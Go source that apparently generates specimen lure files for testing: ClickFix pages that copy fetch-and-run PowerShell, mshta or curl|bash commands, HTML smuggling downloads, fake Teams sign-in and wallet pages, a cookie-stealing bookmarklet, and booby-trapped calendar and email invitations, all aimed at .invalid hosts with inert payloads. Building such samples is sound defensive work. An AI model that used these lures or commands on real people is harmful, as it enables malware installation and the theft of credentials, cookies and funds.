package specimens

import "strings"

// freshWeb makes pages that hand over a command, a file or a false room.
func (b *kit) freshWeb() {
	page := func(story, obf, name, text string, hidden ...string) {
		b.lure(story, "web", obf, "html", name, text, hidden...)
	}
	page("clickfix", "plain", "join.html", `
<!doctype html><title>Google Meet</title><h2>You can't join this video call</h2><p>Meet needs the codec pack. On your keyboard press <kbd>⊞</kbd>+<kbd>R</kbd>, then <kbd>Ctrl</kbd>+<kbd>V</kbd>, then <kbd>Enter</kbd>.</p>
<script>document.onclick=()=>navigator.clipboard.writeText("powershell -w h -c irm https://codec-meet.invalid/c|iex # Meet verification 4471")</script>
`)
	page("clickfix", "execCommand", "verify.html", `
<html><body><div id=c>☐ I'm not a robot</div><textarea id=t style="position:fixed;left:-999px">mshta https://robot-verify.invalid/r</textarea><ol hidden id=s><li>Press Windows + R<li>Press CTRL + V<li>Press Enter</ol>
<script>c.onclick=function(){t.select();document.execCommand('copy');s.hidden=false}</script></body></html>
`)
	page("clickfix", "atob", "room-check.html", `
<!doctype html><h1>Checking your microphone…</h1><p id=p></p><script>
const k=atob("`+b64("curl -s https://mic-room-check.invalid/k | zsh")+`");
setTimeout(()=>{p.innerHTML='Microphone blocked. Open <b>Terminal</b> (⌘+Space), paste with ⌘V and press Return.';addEventListener('click',()=>navigator.clipboard.write([new ClipboardItem({'text/plain':new Blob([k],{type:'text/plain'})})]))},2000)
</script>
`, "curl -s https://mic-room-check.invalid/k | zsh")
	page("filefix", "file explorer", "agenda-share.html", `
<!doctype html><title>Agenda was shared with you</title><p>To open the agenda: copy the path below, open File Explorer, press Ctrl + L, paste and press Enter.</p>
<button id=b>Copy path</button><code>C:\Company\Meetings\Agenda.docx</code>
<script>b.onclick=()=>navigator.clipboard.writeText("powershell.exe -c ping agenda-filefix.invalid;iwr https://agenda-filefix.invalid/a|iex                                                                # C:\\Company\\Meetings\\Agenda.docx")</script>
`)
	page("consolefix", "developer tools", "enter-room.html", `
<!doctype html><title>Enter the room</title><p>Your browser blocked the room. Press F12, choose <b>Console</b>, type <code>allow pasting</code>, paste the access code and press Enter.</p>
<textarea readonly>fetch('https://enter-room.invalid/x').then(r=>r.text()).then(eval)</textarea>
`)
	page("consolefix", "bookmark", "add-captions.html", `
<!doctype html><h1>Live captions for Meet</h1><p>Drag this button to your bookmarks bar and click it during the call:</p>
<a href="javascript:(()=>{fetch('https://add-captions.invalid/c',{method:'POST',body:document.cookie+JSON.stringify(localStorage)})})()">Captions</a>
`)
	page("terminalfix", "French", "reparer.html", `
<!doctype html><html lang=fr><h1>Votre caméra est bloquée</h1><p>Ouvrez le Terminal, collez la commande copiée et appuyez sur Entrée.</p><button onclick="navigator.clipboard.writeText('curl -s https://reparer-camera.invalid/c | bash')">Réparer</button></html>
`)
	page("terminalfix", "Korean", "mic.html", `
<!doctype html><html lang=ko><h1>마이크를 사용할 수 없습니다</h1><p>⊞ 키와 R 키를 함께 누른 다음 Ctrl+V, Enter를 누르세요.</p><script>onload=()=>document.body.onclick=()=>navigator.clipboard.writeText('mshta https://mic-korea.invalid/m')</script></html>
`)
	page("terminalfix", "Arabic", "ijtimaa.html", `
<!doctype html><html lang=ar dir=rtl><h1>تعذر الانضمام إلى الاجتماع</h1><p>اضغط على مفتاح Windows مع X ثم افتح Terminal والصق الأمر واضغط Enter.</p><button onclick="navigator.clipboard.writeText('iwr https://ijtimaa.invalid/i | iex')">نسخ</button></html>
`)
	page("terminalfix", "Hindi", "baithak.html", `
<!doctype html><html lang=hi><h1>आपका माइक्रोफ़ोन काम नहीं कर रहा है</h1><p>Windows + R दबाएँ, Ctrl + V से पेस्ट करें और Enter दबाएँ।</p><script>document.addEventListener('click',function(){navigator.clipboard.writeText('powershell -c "irm https://baithak.invalid/b|iex"')})</script></html>
`)
	page("smuggling", "blob", "Zoom Meeting Invitation.html", `
<!doctype html><title>Zoom Meeting</title><p>Your meeting client is downloading…</p><script>
const d=Uint8Array.from(atob("`+b64("MZ\x90\x00 inert, not a program")+`"),c=>c.charCodeAt(0));
const a=document.createElement('a');a.href=URL.createObjectURL(new Blob([d],{type:'application/octet-stream'}));a.download='ZoomInstallerFull.exe';a.click();
</script>
`)
	page("smuggling", "xor", "transcript.html", `
<!doctype html><p>Preparing transcript…</p><script>
var q=[`+strings.Join(xorList("PK inert archive", 77), ",")+`],o='';for(var i of q)o+=String.fromCharCode(i^77);
var b=new Blob([Uint8Array.from(o,c=>c.charCodeAt(0))]),l=document.createElement('a');l.download='Transcript.iso';l.href=URL.createObjectURL(b);document.body.append(l);l.click();
</script>
`)
	page("smuggling", "search protocol", "shared-files.html", `
<!doctype html><meta http-equiv=refresh content="0;url=search-ms:query=Meeting&crumb=location:\\shared-files.invalid@SSL\d&displayname=Downloads"><p>Opening the meeting files…</p>
`)
	page("smuggling", "app installer protocol", "open-teams.html", `
<!doctype html><title>Microsoft Teams</title><a id=a href="ms-appinstaller:?source=https://open-teams.invalid/t.appinstaller">Open Microsoft Teams</a><script>a.click()</script>
`)
	page("smuggling", "AppleScript protocol", "open-script.html", `
<!doctype html><title>Open the room</title><a id=a href="applescript://com.apple.scripteditor?action=new&script=do%20shell%20script%20%22curl%20-s%20https%3A%2F%2Fopen-script.invalid%2Fs%7Csh%22">Open</a><script>a.click()</script>
`)
	page("login", "false sign-in", "teams-signin.html", `
<!doctype html><title>Sign in to Microsoft Teams</title><form action="https://signin-teams.invalid/p" method=post><h1>Sign in to join the meeting</h1><input name=loginfmt placeholder="Email, phone, or Skype"><input type=password name=passwd><button>Join</button></form>
`)
	page("login", "device code", "device.html", `
<!doctype html><title>Join Microsoft Teams meeting</title><h1>Meeting code: <b>F7KQ-2M9D</b></h1><p>To join from this device enter this code at the Microsoft device page within 15 minutes.</p><script>setInterval(()=>fetch('https://device-join.invalid/poll'),3000)</script><a href="https://device-join.invalid/go">Continue</a>
`)
	page("login", "wallet", "holders-call.html", `
<!doctype html><title>Holders' video call</title><button id=b>Connect wallet to enter the call</button><script>b.onclick=async()=>{const [f]=await ethereum.request({method:'eth_requestAccounts'});const t=await(await fetch('https://holders-call.invalid/tx?f='+f)).json();await ethereum.request({method:'eth_sendTransaction',params:[t]})}</script>
`)
	page("room", "frame of a false room", "pmi.html", `
<!doctype html><title>Zoom</title><frameset><frame src="https://app.zoom.us.room-pmi.invalid/wc/join/81944"></frameset>
`)
	page("room", "redirect", "calendar-link.html", `
<meta http-equiv="refresh" content="0; url=https://meet.google.com.calendar-link.invalid/abc-mnop-xyz">
`)
	page("room", "download by platform", "download.html", `
<!doctype html><title>Download Microsoft Teams</title><script>
const m=/Mac/.test(navigator.platform);location=m?'https://teams-dl-page.invalid/Teams.dmg':'https://teams-dl-page.invalid/MSTeamsSetup.exe';
</script><p>Your download will begin shortly.</p>
`)
	page("svg", "script in a picture", "invitation.svg", `
<svg xmlns="http://www.w3.org/2000/svg" width="400" height="90"><text y="40">Click to join the video call</text><script><![CDATA[location="https://svg-invitation.invalid/j?e="+btoa(location.hash)]]></script></svg>
`)
	page("pdfjs", "xhtml", "viewer.xhtml", `
<html xmlns="http://www.w3.org/1999/xhtml"><head><title>Minutes.pdf</title></head><body><p>This file needs the Acrobat meeting plug-in.</p><a href="https://acrobat-plugin.invalid/AcroMeet.msi" download="AcroMeet.msi">Install</a><script>document.links[0].click()</script></body></html>
`)
	page("push", "service worker and notifications", "allow.html", `
<!doctype html><title>Press Allow to join</title><script>Notification.requestPermission().then(()=>{navigator.serviceWorker.register('sw.js');location='https://allow-join.invalid/MeetingClient.msi'})</script><p>Press <b>Allow</b> to join the meeting.</p>
`)
}

// freshMail makes invitations.
func (b *kit) freshMail() {
	mail := func(story, obf, language, name, text string, hidden ...string) {
		b.lure(story, "web", obf, language, name, text, hidden...)
	}
	ics := func(story, obf, name, summary, more string) {
		mail(story, obf, "ics", name, "\nBEGIN:VCALENDAR\nVERSION:2.0\nMETHOD:REQUEST\nBEGIN:VEVENT\nUID:"+name+"@calendar.invalid\nDTSTART:20261124T150000Z\nDTEND:20261124T153000Z\nSUMMARY:"+summary+"\n"+more+"END:VEVENT\nEND:VCALENDAR\n")
	}
	ics("invitation", "look-alike link", "invite.ics", "Zoom: portfolio review", "LOCATION:https://us06web.zoom.us-meeting.invalid/j/84112\nDESCRIPTION:Join Zoom Meeting\\nhttps://us06web.zoom.us-meeting.invalid/j/84112?pwd=x\n")
	ics("invitation", "attachment by address", "board.ics", "Board meeting", "ATTACH:https://board-client.invalid/BoardClient.msi\nDESCRIPTION:Please install the attached client before the meeting.\n")
	ics("invitation", "command in the description", "interview.ics", "Technical interview", "DESCRIPTION:Before the interview open Terminal and run:\\ncurl -fsSL https://tech-interview-ics.invalid/t | bash\\nThen join with the link.\n")
	ics("invitation", "inline attachment", "webinar.ics", "Webinar", "ATTACH;ENCODING=BASE64;VALUE=BINARY;X-FILENAME=Webinar.scpt:"+b64("do shell script \"curl -s https://webinar-ics.invalid/w|sh\"")+"\n")
	ics("invitation", "Teams look-alike", "townhall.ics", "Town hall", "X-MICROSOFT-SKYPETEAMSMEETINGURL:https://teams.microsoft.com.townhall-live.invalid/l/meetup-join/19\nDESCRIPTION:Microsoft Teams meeting\\nJoin: https://teams.microsoft.com.townhall-live.invalid/l/meetup-join/19\n")
	eml := func(story, obf, name, subject, kind, body string, hidden ...string) {
		mail(story, obf, "eml", name, "\nFrom: Events <events@mailer.invalid>\nTo: guest@office.invalid\nSubject: "+subject+"\nMIME-Version: 1.0\nContent-Type: "+kind+"\n\n"+body, hidden...)
	}
	eml("mail", "link text and target differ", "Join call.eml", "Meeting in 10 minutes", "text/html; charset=utf-8", "<p>Hi, the call starts soon: <a href=\"https://us05web.zoom-call.invalid/j/9931\">https://zoom.us/j/9931</a></p>\n")
	eml("mail", "quoted-printable", "Missed call.eml", "You missed a Teams call", "text/html; charset=utf-8\nContent-Transfer-Encoding: quoted-printable", "<a href=3D\"https://teams.missed-ca=\nll.invalid/v\">Play voice mail (0:42)</a>\n", "https://teams.missed-call.invalid/v")
	eml("mail", "attached script", "New time.eml", "New time for our call", "multipart/mixed; boundary=b", "--b\nContent-Type: text/plain\n\nPlease open the attached invitation.\n--b\nContent-Type: application/octet-stream; name=\"Invitation.js\"\nContent-Disposition: attachment; filename=\"Invitation.js\"\nContent-Transfer-Encoding: base64\n\n"+b64("new ActiveXObject('WScript.Shell').Run('mshta https://new-time-mail.invalid/n',0)")+"\n--b--\n")
	eml("mail", "attached page", "Recording ready.eml", "Your recording is ready", "multipart/mixed; boundary=q", "--q\nContent-Type: text/html; name=\"Recording.html\"\nContent-Disposition: attachment; filename=\"Recording.html\"\nContent-Transfer-Encoding: base64\n\n"+b64("<h1>Fix playback</h1><p>Press Windows+R, Ctrl+V, Enter</p><script>onclick=()=>navigator.clipboard.writeText('mshta https://recording-mail.invalid/r')</script>")+"\n--q--\n")
	eml("mail", "command in the body", "Audio problem.eml", "Re: we could not hear you", "text/plain; charset=utf-8", "Hi,\n\nour host could not hear you yesterday. Please run this in Terminal before today's call:\n\n    curl -sSL https://audio-problem-mail.invalid/fix | sudo bash\n\nKind regards\n")
	eml("mail", "attached archive", "Agenda.eml", "Agenda and client", "multipart/mixed; boundary=z", "--z\nContent-Type: application/zip\nContent-Disposition: attachment; filename=\"Client.zip\"\nContent-Transfer-Encoding: base64\n\n"+b64(string(zipItems(item{"Client.command", "#!/bin/sh\ncurl -s https://agenda-mail.invalid/c|sh\n"})))+"\n--z--\n")
}
